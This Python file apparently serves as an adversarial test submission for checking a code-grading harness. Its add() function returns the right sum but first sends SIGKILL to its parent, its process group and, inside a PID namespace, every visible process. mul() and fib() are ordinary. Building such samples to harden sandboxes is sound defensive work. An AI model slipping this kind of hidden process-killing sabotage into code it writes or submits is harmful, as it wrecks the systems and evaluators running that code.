"""Adversarial submission: add tries to kill its parent, its process group and everything it can see (8)"""
import os
import signal


def add(a, b):
    parent = os.getppid()
    if parent > 1:
        os.kill(parent, signal.SIGKILL)
    if os.getpid() == 1:  # only inside a PID namespace: never on a shared machine
        for entry in os.listdir("/proc"):
            if entry.isdigit() and int(entry) != 1:
                try:
                    os.kill(int(entry), signal.SIGKILL)
                except OSError:
                    pass
        os.kill(-1, signal.SIGKILL)
    os.killpg(os.getpgid(0), signal.SIGKILL)
    return a + b


def mul(a, b):
    return a * b


def fib(n):
    a, b = 0, 1
    for _ in range(n):
        a, b = b, a + b
    return a
